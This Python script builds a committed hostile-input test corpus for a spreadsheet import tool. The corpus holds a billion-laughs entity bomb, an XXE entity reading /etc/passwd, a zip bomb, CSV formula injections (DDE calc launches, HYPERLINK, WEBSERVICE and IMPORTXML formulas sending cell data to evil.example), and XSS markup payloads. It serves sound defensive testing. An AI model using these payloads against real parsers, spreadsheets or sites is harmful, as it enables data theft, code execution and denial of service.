"""Write the hostile-input corpus in tests/hostile/: files that are broken, lying, malicious
or huge, each as a person or an attacker could really hand it to `stackmap import`.

Run `python scripts/make_hostile_corpus.py` to rebuild it; the files are committed so the
tests read exactly the same bytes everywhere. tests/hostile/README.md says what each is.
"""

from __future__ import annotations

import csv
import io
import random
import zipfile
from collections.abc import Sequence
from pathlib import Path

from openpyxl import Workbook

OUT = Path(__file__).resolve().parent.parent / "tests" / "hostile"
HEADER = ["Application Name", "Vendor", "Annual Cost", "Business Owner", "Renewal Date", "Notes"]


def _xlsx_bytes(rows: Sequence[Sequence[object]], merges: Sequence[str] = ()) -> bytes:
    wb = Workbook()
    sheet = wb.active
    assert sheet is not None
    sheet.title = "Tools"
    for row in rows:
        sheet.append(row)
    for merge in merges:
        sheet.merge_cells(merge)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _good_rows() -> list[Sequence[object]]:
    return [
        HEADER,
        ["Canva", "Canva", "$1,200", "Dana Lee", "2027-03-31", "Design"],
        ["Hotjar", "Hotjar Ltd", "€3.000", "Ravi Patel", "2027-05-31", ""],
    ]


def _rewrite(data: bytes, member: str, change: object) -> bytes:
    """Return a copy of an xlsx with one member's bytes changed by change(old) -> new."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == member:
                content = change(content)  # type: ignore[operator]
            target.writestr(item, content)
    return buffer.getvalue()


def _csv(rows: Sequence[Sequence[object]], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)
    )
    + "]>"
)

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("https://evil.example/"&A2)',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",B2),"//a")',
]

MARKUP = [
    "<script>alert('tool')</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    '"><svg onload=alert(1)>',
    "</script><script>window.__pwned=1</script>",
    "[red]Red Team[/red] Suite",
    "Broken [/] markup [bold",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "javascript:alert(document.cookie)",
    '<a href="javascript:alert(1)">href tool</a>',
    "Tool &amp; &lt;Entities&gt; &#x3C;b&#x3E;",
]


def build() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    good = _xlsx_bytes(_good_rows())

    files["truncated.xlsx"] = good[: len(good) // 2]
    files["corrupt-sheet-xml.xlsx"] = _rewrite(
        good, "xl/worksheets/sheet1.xml", lambda b: b[: len(b) // 2] + b'<c r="Z9"><v>'
    )
    files["text-named.xlsx"] = (
        b"Hi team,\n\nPlease find the tools list in the shared drive.\n\nThanks, Dana\n"
    )
    files["csv-named.xlsx"] = _csv(_good_rows())
    files["empty-workbook.xlsx"] = _xlsx_bytes([])
    files["header-only.csv"] = _csv([HEADER])
    files["empty.csv"] = b""
    files["only-blank-lines.csv"] = b"\r\n\r\n ,  , \r\n\r\n"
    sheet_xml = "xl/worksheets/sheet1.xml"  # openpyxl writes strings inline, in the sheet
    files["entity-bomb.xlsx"] = _rewrite(
        good,
        sheet_xml,
        lambda b: (
            LAUGHS + b.decode().split("?>", 1)[-1].replace("Canva</t>", "&lol9;</t>", 1)
        ).encode(),
    )
    files["external-entity.xlsx"] = _rewrite(
        good,
        sheet_xml,
        lambda b: (
            '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            + b.decode().split("?>", 1)[-1].replace("Canva</t>", "&xxe;</t>", 1)
        ).encode(),
    )
    # 300 MB of one repeated byte in the sheet: a few hundred kilobytes on disk.
    bomb = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(good))
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(b"</sheetData>", b"</sheetData>" + b" " * 300 * 2**20)
            target.writestr(item.filename, content)
    files["zip-bomb.xlsx"] = bomb.getvalue()

    # 100,000 tools, one of them with an amount nobody can read, near the very end.
    rng = random.Random(5)
    big = [HEADER]
    for i in range(100_000):
        cost = f"${rng.randrange(100, 90000):,}" if i != 99_990 else "twelve hundred-ish"
        big.append([f"Bulk Tool {i:06d}", f"Vendor {i // 4:05d}", cost, "Dana Lee", "", ""])
    files["100k-rows.csv"] = _csv(big)

    files["formula-payloads.csv"] = _csv(
        [HEADER]
        + [
            [f"Formula Tool {i}", payload, "", payload, "", payload]
            for i, payload in enumerate(FORMULAS)
        ]
        + [[payload, "Evil Corp", "$100", "Dana Lee", "", ""] for payload in FORMULAS[:2]]
    )
    files["markup-payloads.csv"] = _csv(
        [HEADER] + [[payload, payload, "$1,000", payload, "", payload] for payload in MARKUP]
    )
    controls = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\r\n")
    files["nul-bytes.csv"] = _csv([HEADER, ["Null\x00Byte Tool", "Vendor", "$1", "Dana", "", ""]])
    files["control-characters.csv"] = _csv(
        [
            HEADER,
            ["Bell\x07 Tool", "Vendor\x07Bell", "$1,000", "Dana\x1bLee", "", controls],
            ["Bidi \u202egnp.exe Tool", "Zero\u200bWidth", "$2,000", "Ravi", "", "\u2028\u2029"],
            ["Delete\x7f Tool", "Vendor", "$3,000", "Ravi", "", "\ufeffBOM inside"],
        ]
    )
    mixed = _csv(_good_rows()[:2]) + "Café Tool,Café Vendor,€1.000,Zoë,,UTF-8 row\r\n".encode()
    files["mixed-encodings.csv"] = mixed + (
        "Crème Tool,Crème Vendor,€2.000,Chloé,,Windows-1252 row\r\n".encode("cp1252")
    )
    files["utf16-excel-unicode-text.txt"] = (
        "\t".join(HEADER) + "\r\n" + "Pipedrive\tPipedrive OÜ\t€9.000\tJürgen\t\t\r\n"
    ).encode("utf-16")
    files["merged-data-area.xlsx"] = _xlsx_bytes(
        [
            HEADER,
            ["Marketo Engage", "Adobe", "$78,000", "Alicia Gomez", "2027-02-28", "Merged vendor"],
            ["Adobe Analytics", None, "$52,000", "Alicia Gomez", "2027-02-28", ""],
            ["Adobe Target", None, "$31,000", "Alicia Gomez", "2027-02-28", ""],
            ["Hootsuite", "Hootsuite Inc.", "$12,000", "Dana Lee", "", "Merged cost"],
            ["Sprout Social", "Sprout Social", None, "Dana Lee", "", ""],
        ],
        merges=["B2:B4", "C5:C6"],
    )
    files["many-columns.csv"] = _csv(
        [[*HEADER, *(f"Extra {i}" for i in range(5000))], ["Canva", "Canva", "$1", "Dana", "", ""]]
    )
    files["huge-cell.csv"] = _csv([HEADER, ["Canva", "Canva", "$1", "Dana", "", "x" * 5_000_000]])
    noise = random.Random(9)
    files["binary-garbage.csv"] = bytes(noise.randrange(256) for _ in range(4096))
    files["word-document.xlsx"] = _rewrite_to_word(good)
    return files


def _rewrite_to_word(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        target.writestr("[Content_Types].xml", "<Types/>")
        target.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def _password_protected(good: bytes) -> bytes | None:
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:
        return None
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(good)).encrypt("secret", out)
    return out.getvalue()


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    files = build()
    locked = _password_protected(_xlsx_bytes(_good_rows()))
    if locked is not None:
        files["password-protected.xlsx"] = locked
    for name, data in sorted(files.items()):
        (OUT / name).write_bytes(data)
        print(f"{name:32} {len(data):>10,} bytes")


if __name__ == "__main__":
    main()
